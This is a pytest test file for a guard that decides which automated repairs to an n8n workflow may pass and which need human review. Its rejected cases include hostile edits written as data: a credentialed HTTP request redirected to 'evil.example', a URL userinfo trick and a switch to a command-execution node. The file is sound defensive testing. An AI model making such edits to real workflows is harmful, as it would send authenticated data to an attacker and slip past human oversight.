"""What a repair may change, and what it may not."""

from __future__ import annotations

import copy

import pytest

from app.repairs.fence import breaches

WORKFLOW = {
    "name": "Invoices",
    "nodes": [
        {"name": "Webhook", "type": "n8n-nodes-base.webhook", "typeVersion": 2, "position": [0, 0], "parameters": {}},
        {
            "name": "HTTP Request",
            "type": "n8n-nodes-base.httpRequest",
            "typeVersion": 4.2,
            "position": [220, 0],
            "parameters": {"url": "https://api.example.com/invoices"},
            "credentials": {"httpHeaderAuth": {"id": "1", "name": "api"}},
        },
    ],
    "connections": {"Webhook": {"main": [[{"node": "HTTP Request", "type": "main", "index": 0}]]}},
    "settings": {"executionOrder": "v1"},
}


def changed(change):
    after = copy.deepcopy(WORKFLOW)
    change(after)
    return breaches(WORKFLOW, after)


def set_node(**values):
    return lambda workflow: workflow["nodes"][1].update(values)


@pytest.mark.parametrize(
    "change",
    [
        set_node(retryOnFail=True, maxTries=3, waitBetweenTries=2000),
        set_node(onError="continueErrorOutput"),
        set_node(parameters={"url": "https://api.example.com/v2/invoices", "options": {"timeout": 10000}}),
        lambda workflow: workflow["connections"].clear(),
        set_node(notes="looked at"),
    ],
)
def test_parameters_retries_error_handling_and_connections_may_change(change):
    assert changed(change) == []


def add(kind):
    node = {"name": "New", "type": kind, "typeVersion": 1, "position": [0, 0], "parameters": {}}
    return lambda workflow: workflow["nodes"].append(node)


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (add("n8n-nodes-base.code"), "add a node"),
        (add("n8n-nodes-base.noOp"), "add a node"),
        (lambda workflow: workflow["nodes"].pop(), "remove a node"),
        (set_node(name="Renamed"), "remove a node"),
        (set_node(type="n8n-nodes-base.executeCommand"), '"type"'),
        (set_node(typeVersion=3), '"typeVersion"'),
        (set_node(credentials={"httpHeaderAuth": {"id": "2", "name": "other"}}), "credentials"),
        (set_node(credentials={}), "credentials"),
        (set_node(disabled=True), '"disabled"'),
        (set_node(webhookId="x"), '"webhookId"'),
        (set_node(parameters={"url": "https://evil.example/collect"}), "evil.example"),
        (set_node(parameters={"url": "=HTTPS://EVIL.example/{{ $json.x }}"}), "evil.example"),
        (set_node(parameters={"url": "https://api.example.com@evil.example/"}), "evil.example"),
        (set_node(notes="see https://evil.example/x"), "evil.example"),
        (set_node(maxTries=1000), "maxTries"),
        (set_node(waitBetweenTries=10**9), "waitBetweenTries"),
        (lambda workflow: workflow.update(name="Other"), "rename"),
        (lambda workflow: workflow["settings"].update(errorWorkflow="x"), "settings"),
    ],
)
def test_everything_else_needs_a_person(change, named):
    found = changed(change)
    assert found
    assert any(named in rule for rule in found), found
